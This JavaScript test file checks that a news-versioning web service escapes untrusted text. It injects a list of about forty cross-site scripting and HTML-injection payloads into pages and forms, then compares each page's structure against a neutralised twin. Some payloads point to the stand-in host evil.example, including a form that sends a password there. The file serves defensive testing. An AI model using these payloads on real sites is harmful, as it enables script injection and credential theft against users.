// Text from outside that tries to become more than text. Each page is held against the same page
// of a twin whose text is as long and harmless: not an element and not an attribute may differ.

import assert from 'node:assert/strict'
import { test } from 'node:test'

import { close, LASTED, newsroom, TIMEOUT, visiting } from './newsroom.js'

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<script>alert`1`//',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</select></datalist><img src=x onerror=alert(1)>',
  '</style></script><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script><![CDATA[',
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '`><img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><script>alert(1)</script>',
  '<a href="javascript:alert(1)">x</a>',
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '" autofocus onfocus=alert(1) x="',
  '" style="position:fixed;inset:0" x="',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src=javascript:alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<form action=//evil.example><input name=password></form>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '</table></td></div></main><h1>Taken over</h1>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&quot;&gt;&lt;img src=x onerror=alert(1)&gt;',
  '{{constructor.constructor("alert(1)")()}} {% raw %} ${alert(1)} <%= 7*7 %>',
  'javascript:alert(1)//',
  '\u202e<b>turned</b>\u2066 \u200b<i>thin</i>',
]

/** The same without a sign that means something in HTML, in an attribute or in an address. */
const tamed = (text) =>
  text.replace(/[<>&"'`=:#/]/g, (sign) => ({ '"': '”', "'": '’', ':': ';' })[sign] ?? '·')

/** Runs in a page: how often each element stands in each other one, with which attributes. */
function structure(html) {
  const root = html === undefined ? document : new DOMParser().parseFromString(html, 'text/html')
  // Ticks of time are set by the clock; chips hold words of the site's own, by what kind of change
  // it was: words between unlike quotation marks are unlike changes.
  root.querySelectorAll('figure.timeline g, .chip').forEach((own) => own.remove())
  const counts = {}
  for (const element of root.querySelectorAll('*')) {
    const names = element.getAttributeNames().sort().join(' ')
    const line = `${element.parentElement?.localName ?? ''} > ${element.localName} [${names}]`
    counts[line] = (counts[line] ?? 0) + 1
  }
  return Object.fromEntries(Object.entries(counts).sort())
}

/** Addresses that a page names, but for those of its own site: only http and https may be among them. */
const schemes = () =>
  [...document.querySelectorAll('[href], [src], [action], [formaction]')]
    .flatMap((element) => ['href', 'src', 'action', 'formAction'].map((name) => element[name]))
    .map((address) => `${address?.baseVal ?? address ?? ''}`.match(/^[a-z-]+:/)?.[0])
    .filter((scheme) => scheme && !['http:', 'https:'].includes(scheme))

/** Has a service meet every text everywhere it can; returns the structure of every page. */
async function played(texts) {
  const room = await newsroom()
  const { site, service } = room
  const pages = {}
  try {
    const paths = texts.map((_, at) => `/hostile/${at}`)
    const publish = (round) =>
      texts.forEach((text, at) => {
        const hours = ['eight', 'twelve'][round]
        site.publish(paths[at], {
          title: `${text} ${['old', 'new'][round]} ${at}`,
          // A byline with a whole address in it is taken for none.
          byline: `Ada ${text.replace(/https?:/g, '')}`,
          // Each article has words of its own, so that none is taken for a piece of the site.
          paragraphs: [
            `${text} number ${at}. ${LASTED('many')} Story ${at}.`,
            `${LASTED(hours)} In story ${at}.`,
            // Too unlike to be one paragraph that was edited.
            [
              `${text} is what the mayor had told nobody of the village before, in case ${at}.`,
              `Bakers, sailors and one poet agree about matter ${at} since last winter: ${text}`,
            ][round],
          ],
        })
      })
    publish(0)
    await service.told('watch', ...paths.map((path) => site.url(path)))
    await service.told('check', '--due')
    await visiting(service, {}, async (visitor) => {
      const { page } = visitor
      const ids = texts.map((_, at) => at + 1)
      for (const id of ids) await visitor.visitWhenThere(`/articles/${id}/versions/0`)
      publish(1)
      await service.told('check', ...paths.map((path) => site.url(path)))

      const read = async (name, html) => {
        pages[name] = await page.evaluate(structure, html)
      }
      /** Opens a page as a reader does. */
      const open = async (path, name = path) => {
        await visitor.visit(path)
        assert.deepEqual(await page.evaluate(schemes), [], path)
        await read(name)
      }
      /** Reads a page's markup alone. */
      const fetched = async (path, name = path) =>
        read(name, await (await page.request.get(service.url(path))).text())

      for (const id of ids) {
        await open(`/articles/${id}/diff/0/1`)
        await fetched(`/articles/${id}`)
        await fetched(`/articles/${id}/diff/0/1?view=inline`)
        await fetched(`/articles/${id}/diff/0/1?only=changes`)
        await fetched(`/articles/${id}/versions/1?by=sentence`)
      }
      await open('/')
      await open('/articles')
      await open('/sources/127001')

      await visitor.logIn(service.loginLink)
      const origin = { origin: service.origin }
      const token = await page.locator('[name=form_token]').first().inputValue()
      const send = async (path, form) => {
        const answer = await page.request.post(service.url(path), {
          form: { form_token: token, ...form },
          headers: origin,
        })
        return answer.text()
      }
      for (const [at, text] of texts.entries()) {
        const typed = encodeURIComponent(text)
        await fetched(`/versions/search?q=${typed}%20old`, `search ${at}`)
        await fetched(`/versions?source=${typed}`, `filter ${at}`)
        await fetched(`/articles?source=${typed}`, `articles ${at}`)
        await fetched(`/watch?address=${typed}`, `form ${at}`)
        await fetched(`/login?token=${typed}&next=${typed}`, `login ${at}`)
        await fetched(`/audit?actor=${typed}`, `audit ${at}`)
        await fetched(`/nowhere/${typed}`, `nowhere ${at}`)
        await read(`refused ${at}`, await send('/watch', { address: `x ${text}` }))
        const rule = `[[${text}`
        const rules = { title: rule, body: rule, drop: rule, action: 'preview' }
        await read(`rules ${at}`, await send('/sources/127001/rules', rules))
        const patterns = { include: `(${text}`, exclude: text, action: 'preview' }
        await read(`patterns ${at}`, await send('/sources/127001/filter', patterns))
        await read(`editor ${at}`, await send('/editors', { action: 'add', name: `${at} ${text}` }))
        await read(`hide ${at}`, await send('/articles/1/visibility', { action: 'delete', reason: text }))
      }
      await open('/editors')
      await open('/audit')
      // A name that a newspaper gave its feed, an address on its site, and a type that is an error.
      for (const [at, text] of [...texts.entries()].filter(([at]) => at % 8 === 1)) {
        site.publishFeed(`/feed/${at}`, `Times ${text}`, [[`/hostile/${at}?${encodeURI(text)}`, text]])
        await visitor.propose(site.url(`/feed/${at}`))
        await read(`feed ${at}`)
        await visitor.confirm()
        site.answer(`/type/${at}`, 200, `text/${text.replace(/[^ -~]/g, '')}`, text)
        await visitor.propose(site.url(`/type/${at}`))
        await read(`type ${at}`)
        await visitor.propose(`${site.url('/none')}?${text}`)
        await read(`address ${at}`)
      }
      await open('/sources')
    })
    return pages
  } finally {
    await close(room)
  }
}

test('hostile text changes no element and no attribute of any page', { timeout: 4 * TIMEOUT }, async () => {
  const hostile = await played(PAYLOADS)
  const harmless = await played(PAYLOADS.map(tamed))
  assert.ok(Object.keys(hostile).length > 15 * PAYLOADS.length)
  assert.deepEqual(Object.keys(hostile), Object.keys(harmless))
  for (const [page, found] of Object.entries(hostile)) {
    // How much a search finds depends on its words: there the shapes are held against each other.
    const held = page.startsWith('search ') ? Object.keys : (counts) => counts
    assert.deepEqual(held(found), held(harmless[page]), page)
  }
})
